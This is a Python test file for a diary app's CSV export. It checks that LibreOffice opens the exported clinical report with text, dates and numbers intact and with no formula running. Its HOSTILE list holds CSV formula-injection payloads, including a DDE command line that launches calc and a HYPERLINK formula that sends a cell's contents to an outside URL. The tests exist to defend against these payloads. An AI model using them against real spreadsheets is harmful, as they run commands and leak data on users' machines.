"""A real spreadsheet opens the table: nothing runs, and everything arrives."""

from decimal import Decimal
from pathlib import Path
from random import Random

import pytest

from diary.clinical_report import ClinicalReport
from diary.exports.csv_file import HEADERS, csv_lines
from diary.exports.guard import unguard
from tests.diary.reports import a_child, a_report, a_spot, an_entry
from tests.scale.libreoffice import Cell, opened

WORDS = [
    "Größer, süß; naïve",
    "أفضل اليوم",
    "आज बेहतर है",
    "今天好一点 😀👶🏽",
    'says "itchy", twice',
    "first line\nsecond line",
    "don't",
    "dry; sore",
]
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com/?"&A1,"here")',
    "\t=1+1",
    "\r\n=1+1",
    ";=1+1;",
    "a;=1+1;b",
    "a\n=1+1",
    'a"\n=1+1\n"b',
    '";=1+1;"',
    "a\t=1+1\tb",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "a;'=1+1;b",
]
PIECES = [*"=+-@;,\t\n'\"", "1+1", "SUM(1)", " ", "a", "\u00a0", "\uff1d"]
SPLIT_AT = {
    "commas": ",",
    "what the dialog offers": ",;\t",
    "semicolons": ";",
    "tabs": "\t",
}


def drawn(count: int) -> list[str]:
    """Texts of pieces that matter, the same each time."""
    random = Random(8)  # noqa: S311 (repeatable, not secret)
    return [
        "".join(random.choices(PIECES, k=random.randint(1, 9))) for _n in range(count)
    ]


def a_table(folder: Path, notes: list[str]) -> Path:
    """Write a report with one entry a note, which is also its writer and its place."""
    path = folder / "log.csv"
    path.write_bytes("".join(csv_lines(of_notes(notes))).encode())
    return path


def of_notes(notes: list[str]) -> ClinicalReport:
    entries = (
        an_entry(
            number,
            note=note,
            written_by=note,
            sites=(note, note),
            temperature_c=Decimal("37.6"),
        )
        for number, note in enumerate(notes)
    )
    return a_report(a_spot(*entries, label=notes[0]), child=a_child(notes[-1]))


@pytest.fixture(scope="module")
def rows(tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, Cell]]:
    """The table of WORDS, opened with what the dialog of an import offers."""
    path = a_table(tmp_path_factory.mktemp("words"), WORDS)
    head, *rest = opened(path, separators=",;\t")
    names = [cell.text for cell in head if cell.text]
    assert names == list(HEADERS)
    return [dict(zip(names, row, strict=False)) for row in rest[: len(WORDS)]]


def test_words_of_any_language_arrive(rows: list[dict[str, Cell]]) -> None:
    assert [unguard(row["note"].text) for row in rows] == WORDS
    assert {row["note"].kind for row in rows} == {"string"}


def test_dates_are_dates_and_numbers_are_numbers(rows: list[dict[str, Cell]]) -> None:
    first = rows[0]

    assert first["date"] == Cell("date", "2026-10-21", "")
    assert first["born_on"] == Cell("date", "2026-10-10", "")
    assert first["first_noticed_on"].kind == "date"
    assert [row["day_number"].text for row in rows] == [*map(str, range(len(WORDS)))]
    assert {row["day_number"].kind for row in rows} == {"float"}
    assert first["temperature_c"] == Cell("float", "37.6", "")
    assert first["observed_at"].text == "2026-10-21T13:00:00+01:00"


@pytest.mark.parametrize(
    "separators",
    [pytest.param(signs, id=name) for name, signs in SPLIT_AT.items()],
)
def test_no_formula_runs_however_lines_are_split(
    separators: str, tmp_path: Path
) -> None:
    path = a_table(tmp_path, [*HOSTILE, *drawn(300)])

    rows = opened(path, separators=separators)

    assert len(rows) > len(HOSTILE)
    assert [cell for row in rows for cell in row if cell.formula] == []


@pytest.mark.parametrize("separators", SPLIT_AT.values())
def test_a_formula_without_a_guard_would_run(separators: str, tmp_path: Path) -> None:
    path = tmp_path / "log.csv"
    path.write_text(f"a{separators[0]}=1+1\n")

    [[_first, second, *_rest]] = opened(path, separators=separators)

    assert second.text == "2"
    assert second.formula != ""
